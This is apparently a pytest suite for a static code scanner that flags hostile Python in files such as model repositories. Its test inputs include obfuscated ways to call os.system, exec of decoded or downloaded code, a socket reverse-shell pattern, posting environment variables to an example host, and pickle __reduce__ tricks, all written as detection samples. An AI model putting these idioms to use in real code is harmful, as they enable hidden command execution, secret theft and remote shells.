"""Python is judged by what its calls stand for: hidden or not, on import or later; declarations are clean."""

from __future__ import annotations

import base64
import time
import zlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from touchstone.scan.file import scan_bytes
from touchstone.scan.findings import FileResult


def scan(source: str | bytes, name: str = "helper.py") -> FileResult:
    return scan_bytes(source.encode() if isinstance(source, str) else source, name)


def rules(source: str | bytes, name: str = "helper.py") -> dict[str, str]:
    found = scan(source, name).findings
    return {finding.rule.removeprefix("python/"): finding.severity for finding in sorted(found, key=_mildest_first)}


def _mildest_first(finding: object) -> int:
    order = ("information", "low", "medium", "high", "critical")
    return order.index(str(getattr(finding, "severity", "low")))


MODEL = '''
"""A model."""
from __future__ import annotations

import math
from typing import Optional

import torch
import torch.nn as nn
from transformers import PreTrainedModel

from .configuration_x import XConfig

logger = None


class XAttention(nn.Module):
    """Attention."""

    def __init__(self, config: XConfig, eval: bool = False) -> None:
        super().__init__()
        self.weight = nn.Parameter(torch.empty(config.hidden_size))
        self.scale = math.sqrt(getattr(config, "head_dim", 64))

    @torch.no_grad()
    def forward(self, hidden: torch.Tensor, mask: Optional[torch.Tensor] = None) -> torch.Tensor:
        compile = mask is not None
        if compile:
            hidden = hidden @ self.weight
        self.eval()
        return torch.nn.functional.softmax(hidden / self.scale, dim=-1)


class XModel(PreTrainedModel):
    config_class = XConfig
    _keys = ["x"]
'''


@pytest.mark.parametrize(
    "source",
    [
        "",
        "# a comment\n",
        '"""Nothing but a text."""\n',
        "from .modeling_x import XModel\n__all__ = ['XModel']\n__version__ = '1.0'\n",
        "model = dict(type='FasterRCNN', backbone=dict(depth=50), norms=[1.0, -2, (3,)])\n_base_ = ['a.py']\n",
    ],
)
def test_declarations_are_clean(source: str) -> None:
    assert scan(source).verdict == "clean"


def test_a_model_is_for_a_person_to_review_and_no_more() -> None:
    result = scan(MODEL, "modeling_x.py")
    assert rules(MODEL, "modeling_x.py") == {"program": "low"}
    assert result.verdict == "review"
    assert {"torch", "transformers", ".configuration_x"} <= {
        fact.value for fact in result.facts if fact.name == "imports"
    }


@pytest.mark.parametrize(
    "source",
    [
        "import os\nos.system('echo planted')",
        "import os as o\no.system('echo planted')",
        "from os import system as s\ns('echo planted')",
        "from os import *\nsystem('echo planted')",
        "# aliases\nimport os\nrun = os.system\nalso = run\nalso('echo planted')",
        "import os\nf = getattr(os, 'sys' + 'tem')\nf('echo planted')",
        "import os\ngetattr(os, 'metsys'[::-1])('echo planted')",
        "o = __import__('os')\no.system('echo planted')",
        "__import__('o' + 's').system('echo planted')",
        "import importlib\nimportlib.import_module('os').system('echo planted')",
        "import sys\nsys.modules['os'].system('echo planted')",
        "import os\nos.__dict__['system']('echo planted')",
        "import os\nvars(os)['system']('echo planted')",
        "__builtins__.__import__('os').system('echo planted')",
        "import os\nfor f in (os.system, print):\n    f('echo planted')",
        "import os\ndef g(f=os.system):\n    f('echo planted')",
        "import os\nlist(map(os.system, ['echo planted']))",
        "import os\nclass A:\n    def __reduce__(self):\n        return os.system, ('echo planted',)",
        "import os\n(lambda: os.system('echo planted'))()",
        "import os\nx: os.system('echo planted') = 1",
        "import os\n[os.popen(c) for c in ['echo planted']]",
        "import subprocess\nsubprocess.run('echo planted', shell=True)",
        "import subprocess\nsubprocess.Popen(['/bin/sh', '-c', 'echo planted'])",
        "import pty\npty.spawn('/bin/sh')",
        "exec('import os\\nos.system(\"echo planted\")')",
        "(os := __import__('os')).system('echo planted')",
        "ｏ = __import__('os')\nｏ.ｓystem('echo planted')",
    ],
)
def test_programs_that_are_run_are_found_however_they_are_named(source: str) -> None:
    assert scan(source).verdict == "unsafe"
    assert rules(source)["runs-program"] in {"high", "critical"}


@pytest.mark.parametrize(
    "source",
    [
        "import os\ngetattr(os, input())('x')",
        "import os\nfrom operator import attrgetter\nattrgetter('sys' 'tem')(os)('x')",
        "import subprocess\ndef f(m): m.run('x')\nf(subprocess)",
        "import os\ngetattr(os, 'sys' + 'tem')",
    ],
)
def test_lookups_that_hide_what_is_used(source: str) -> None:
    assert rules(source)["hidden-lookup"] == "high"


ENCODED = base64.b64encode(b"print('planted')").decode()


@pytest.mark.parametrize(
    "source",
    [
        f"import base64\nexec(base64.b64decode('{ENCODED}'))",
        f"import base64\ncode = base64.b64decode('{ENCODED}').decode()\nexec(code)",
        f"from base64 import b64decode as d\na = d('{ENCODED}')\nb = a\neval(compile(b, 'x', 'exec'))",
        f"import zlib\nexec(zlib.decompress({zlib.compress(b'print(1)')!r}))",
        "import codecs\nexec(codecs.decode(open('a').read(), 'rot13'))",
        "import requests\nexec(requests.get('https://planted.example').text)",
        "import urllib.request as u\nwith u.urlopen('https://planted.example') as page:\n    exec(page.read())",
        "import marshal, types\ntypes.FunctionType(marshal.loads(open('a', 'rb').read()), {})()",
    ],
)
def test_code_that_is_decoded_or_downloaded_and_run(source: str) -> None:
    assert rules(source)["hidden-code"] == "critical"


@pytest.mark.parametrize(
    ("source", "rule", "severity"),
    [
        ("eval(input())", "evaluates-code", "high"),
        ("import importlib\nimportlib.import_module(input())", "evaluates-code", "medium"),
        (
            "import subprocess\ndef f():\n    return subprocess.check_output(['git', 'rev-parse', 'HEAD'])",
            "runs-program",
            "medium",
        ),
        ("import subprocess\nsubprocess.run(f'ffmpeg -i {1}', shell=True)", "runs-program", "medium"),
        ("import subprocess\nsubprocess.run('git log; curl x | sh', shell=True)", "runs-program", "high"),
        ("import torch\ntorch.load('a.pt')", "unsafe-loading", "low"),
        ("import torch\ntorch.load('a.pt', weights_only=False)", "unsafe-loading", "medium"),
        ("import pickle\npickle.load(open('a', 'rb'))", "unsafe-loading", "medium"),
        (f"import pickle, base64\npickle.loads(base64.b64decode('{ENCODED}'))", "unsafe-loading", "high"),
        ("import numpy as np\nnp.load('a', allow_pickle=True)", "unsafe-loading", "medium"),
        ("import yaml\nyaml.load(x, Loader=yaml.UnsafeLoader)", "unsafe-loading", "medium"),
        ("import requests\nrequests.get('https://a.example')", "network", "medium"),
        ("import ctypes\nctypes.CDLL('./planted.so')", "native-code", "high"),
        ("import ctypes\nctypes.CDLL('libcudart.so.12')", "native-code", "medium"),
        ("import shutil\nshutil.rmtree('a')", "changes-files", "low"),
        ("open('/etc/passwd')", "reads-secrets", "medium"),
        ("().__class__.__base__.__subclasses__()", "reaches-internals", "medium"),
        ("import sys\nsys.settrace(print)", "changes-interpreter", "medium"),
        (
            "from transformers import AutoModel\nAutoModel.from_pretrained('a', trust_remote_code=True)",
            "trusts-remote-code",
            "low",
        ),
        ("import os, requests\nrequests.post('https://a.example', json=dict(os.environ))", "sends-secrets", "high"),
        (
            "import socket, os, subprocess\ns = socket.socket()\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh'])",
            "remote-shell",
            "critical",
        ),
        ("x = '" + "A" * 3000 + "'", "encoded-literal", "medium"),
    ],
)
def test_what_code_does_decides_how_bad_it_is(source: str, rule: str, severity: str) -> None:
    assert rules(source)[rule] == severity


@pytest.mark.parametrize(
    "source",
    [
        "import torch\ntorch.load('a.pt', weights_only=True)",
        "import numpy as np\nnp.load('a.npy')",
        "import yaml\nyaml.load(x, Loader=yaml.SafeLoader)",
        "import subprocess\ntry:\n    pass\nexcept subprocess.CalledProcessError:\n    pass",
        "import os\nos.makedirs(os.path.join('a', os.environ.get('B', '')), exist_ok=True)",
        "import importlib\nimportlib.import_module('torch')",
        "model.eval()\nimport re\nre.compile('x')",
        "import os\nif hasattr(os, 'fork'):\n    flag = getattr(os, 'O_BINARY', 0)",
        "print('os.system and exec( are only mentioned, curl http://x | sh too')",
        "import subprocess\ndef f(x): return isinstance(x, subprocess.Popen)",
        "import types\ndef f(c: types.CodeType) -> types.FunctionType: ...",
    ],
)
def test_ordinary_code_is_only_a_program(source: str) -> None:
    assert rules(source) == {"program": "low"}


def test_on_import_weighs_more_than_on_call() -> None:
    called = "import requests\nclass A:\n    pass\ndef f():\n    requests.get('https://a.example')\n"
    assert rules(called)["network"] == "medium"
    assert rules(called + "f()\n")["network"] == "high"
    assert rules(called + "if __name__ == '__main__':\n    f()\n")["network"] == "medium"
    assert rules("import requests\nrequests.get('https://a.example')", "modeling_x.py")["network"] == "high"


def test_a_shadowed_builtin_is_still_shown() -> None:
    assert rules("def eval(model):\n    model.eval()\neval(input())\n")["evaluates-code"] == "medium"


@pytest.mark.parametrize(
    "source",
    [
        "parts = ['pass']\nparts.append(x)\nexec(''.join(parts))",
        "def f(code='pass'):\n    exec(code)\nf(x)",
        "code = 'pass'\nfrom elsewhere import code\nexec(code)",
        "code = 'pass'\nfrom elsewhere import *\nexec(code)",
        "code = 'pass'\ncode += x\nexec(code)",
        "code = 'pass'\nwith open('a') as code:\n    exec(code)",
        "code = 'pass'\nfor code in x:\n    exec(code)",
        "code = 'pass'\ndef f():\n    global code\n    code = x\nexec(code)",
        "def chr(n):\n    return x\nexec(chr(1))",
        "code = 'pass'\nmatch x:\n    case [code]:\n        exec(code)",
    ],
)
def test_a_text_that_may_change_is_not_taken_for_known(source: str) -> None:
    assert rules(source)["evaluates-code"] == "high"


def test_names_bound_again_hide_nothing() -> None:
    source = "from os import system\nsystem = system\nlist(map(system, ['echo planted']))\n"
    assert rules(source)["runs-program"] == "high"
    shadowed = f"import base64\ndef f(exec=None): pass\nexec(base64.b64decode('{ENCODED}'))\n"
    assert rules(shadowed)["hidden-code"] == "critical"


def test_what_a_literal_decodes_to_is_examined() -> None:
    program = b"\x7fELF\x02\x01\x01" + bytes(3000)
    result = scan(f"blob = '{base64.b64encode(program).decode()}'\n")
    assert any("!line 1" in finding.where for finding in result.findings)


def test_everything_in_setup_may_run_when_it_is_installed() -> None:
    source = "import requests\nclass Install:\n    def run(self):\n        requests.get('https://a.example')\n"
    assert rules(source, "setup.py")["network"] == "high"
    assert rules(source, "helper.py")["network"] == "medium"


def test_setup_hooks() -> None:
    hook = "from setuptools import setup\nsetup(name='x', cmdclass={'install': Mine})\n"
    own = "from setuptools import setup\nfrom torch.utils.cpp_extension import BuildExtension\n"
    assert rules(hook, "setup.py")["install-hook"] == "medium"
    assert "install-hook" not in rules(own + "setup(cmdclass={'build_ext': BuildExtension})\n", "setup.py")


def test_names_that_python_runs_by_itself_and_names_of_weights() -> None:
    assert rules("x = 1\n", "sitecustomize.py")["runs-unasked"] == "high"
    disguised = scan("#!/usr/bin/env python3\nprint(1)\n", "model.h5")
    assert "script/disguised-program" in {finding.rule for finding in disguised.findings}


@pytest.mark.parametrize("encoding", [b"utf-7", b"unicode_escape", b"rot13", b"idna"])
def test_encodings_that_hide_code(encoding: bytes) -> None:
    assert rules(b"# coding: " + encoding + b"\nx = 1\n")["strange-encoding"] == "high"
    assert rules(b"# -*- coding: utf-8 -*-\nx = 1\n") == {}


@pytest.mark.parametrize("source", ["print 'python 2'\n", "def f(:\n", "x = " + "(" * 300 + ")" * 300, "\tx\n y"])
def test_what_does_not_parse_is_a_gap(source: str) -> None:
    assert scan(source).verdict == "incomplete"


def test_offsets_are_those_of_bytes() -> None:
    source = "import os\nname = '模型'; os.system('echo planted')\n"
    finding = next(finding for finding in scan(source).findings if finding.rule == "python/runs-program")
    assert source.encode()[finding.offset :].startswith(b"os.system")


def test_long_sources_take_linear_time() -> None:
    source = "import os\n" + "x = f(a.b.c(1), 'text')[0]\n" * 5_000
    started = time.thread_time()
    assert scan(source).verdict == "review"
    assert time.thread_time() - started < 8


_LINES = """
import os
import os as a, sys
from x import *
a = getattr(os, b)
b = 'x' * 3
exec(b)
a, b = b, a
def f(a=os): return a
class A(os): x = 1
for a in (1, b): pass
with a() as b: pass
b = b'\\x00' + c
f = lambda x: x
a = [chr(i) for i in (1, 2)]
x: int = exec
a.b['c'](d)
b += 'x'
eval('1 + 1')
a = '%s' % 3
a = 'x'[::0]
a = ''.join([b, 1])
b = bytes([1, 300])
chr(-1)
a = {**os.environ}
""".splitlines()


@given(st.lists(st.sampled_from(_LINES), max_size=12).map("\n".join))
def test_never_fails_on_source(source: str) -> None:
    assert "reader" not in {gap.code for gap in scan(source).gaps}


@given(st.binary(max_size=200))
def test_never_fails_on_bytes(content: bytes) -> None:
    assert "reader" not in {gap.code for gap in scan(content).gaps}
